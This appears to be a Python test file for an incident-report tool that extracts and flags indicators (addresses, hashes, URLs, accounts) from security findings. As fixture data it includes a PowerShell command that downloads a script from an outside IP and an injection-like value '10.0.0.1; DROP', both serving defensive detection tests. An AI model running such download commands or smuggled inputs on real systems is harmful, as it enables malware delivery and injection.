from __future__ import annotations

from dataclasses import replace

from magistrate.report.build import build_view
from magistrate.report.observables import ObservableKind, observables
from report.sample_case import CHILD, FINDINGS, hostile_case, quiet_case, sample_case


def _with_quoted(**quoted: str):
    proof = replace(CHILD, quoted=tuple(quoted.items()))
    return build_view(replace(sample_case(), findings=(replace(FINDINGS[0], evidence=(proof,)),)))


def test_t_act_1_internal_addresses_hosts_and_accounts_are_never_called_hostile() -> None:
    kinds = {ObservableKind.ACCOUNT, ObservableKind.HOST}
    found = observables(build_view(sample_case()))

    assert {item.value for item in found} >= {"10.0.5.23", "fs01.corp.example", r"CORP\user05"}
    assert [
        item for item in found if item.hostile and (item.kind in kinds or item.value == "10.0.5.23")
    ] == []


def test_an_address_outside_is_hostile_when_a_finding_that_counts_quotes_it() -> None:
    found = observables(_with_quoted(DestinationIp="203.0.113.9"))

    assert [item.hostile for item in found if item.value == "203.0.113.9"] == [True]


def test_hashes_are_taken_apart() -> None:
    found = observables(_with_quoted(Hashes=f"MD5={'A' * 32},SHA256={'B' * 64}"))

    assert {(item.kind.value, item.value) for item in found} >= {("md5", "a" * 32), ("sha256", "b" * 64)}


def test_a_url_in_a_command_is_found() -> None:
    found = observables(_with_quoted(CommandLine="powershell iwr http://203.0.113.9/a.ps1 -o x"))

    assert [item.value for item in found if item.kind is ObservableKind.URL] == ["http://203.0.113.9/a.ps1"]


def test_a_case_that_is_not_escalated_holds_nothing_hostile() -> None:
    assert [item for item in observables(build_view(quiet_case())) if item.hostile] == []


def test_text_that_is_no_address_is_not_taken_for_one() -> None:
    found = observables(build_view(hostile_case("10.0.0.1; DROP")))

    assert [item for item in found if item.kind is ObservableKind.ADDRESS] == []
